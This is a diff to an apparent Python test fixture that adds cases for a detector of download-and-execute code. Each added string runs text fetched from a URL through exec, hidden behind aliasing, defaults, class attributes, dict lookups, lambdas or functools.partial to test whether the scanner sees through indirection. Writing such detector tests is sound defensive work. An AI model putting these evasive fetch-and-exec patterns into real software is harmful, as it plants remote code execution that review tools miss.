@@ -34,6 +34,16 @@ class Feed:
     "a host put together": "def go(host):\n    exec(requests.get(f'http://127.0.0.1.{host}/').text)\n",
     "no path": "def go():\n    exec(requests.get('//example.invalid/x').text)\n",
     "a path of another machine": "import httpx\n\ndef go():\n    c = httpx.Client(base_url='https://c.example.invalid')\n    exec(c.get('/x').text)\n",
+    "a name that was another's": "fetch = print\nfetch = requests.get\n\ndef go():\n    exec(fetch(URL).text)\n",
+    "a name that is another's elsewhere": "def go():\n    exec(requests.get(URL).text)\n\ndef never():\n    import json as requests\n",
+    "a name with its type": "fetch: object = requests.get\n\ndef go():\n    exec(fetch(URL).text)\n",
+    "two names at once": "take = fetch = requests.get\n\ndef go():\n    exec(fetch(URL).text)\n",
+    "a name in a condition": "if fetch := requests.get:\n    exec(fetch(URL).text)\n",
+    "a default": "def go(fetch=requests.get):\n    exec(fetch(URL).text)\n",
+    "a class's": "class Web:\n    fetch = requests.get\n\ndef go():\n    exec(Web.fetch(URL).text)\n",
+    "a table's": "HOW = {'get': requests.get}\n\ndef go():\n    exec(HOW['get'](URL).text)\n",
+    "a lambda's": "fetch = lambda where: requests.get(where)\n\ndef go():\n    exec(fetch(URL).text)\n",
+    "half a call": "import functools\nfetch = functools.partial(requests.get, URL)\n\ndef go():\n    exec(fetch().text)\n",
     "a name given once more": "HERE = 'http://localhost/'\nHERE = URL\n\ndef go():\n    exec(requests.get(HERE).text)\n",
     "in the background": """
 import aiohttp
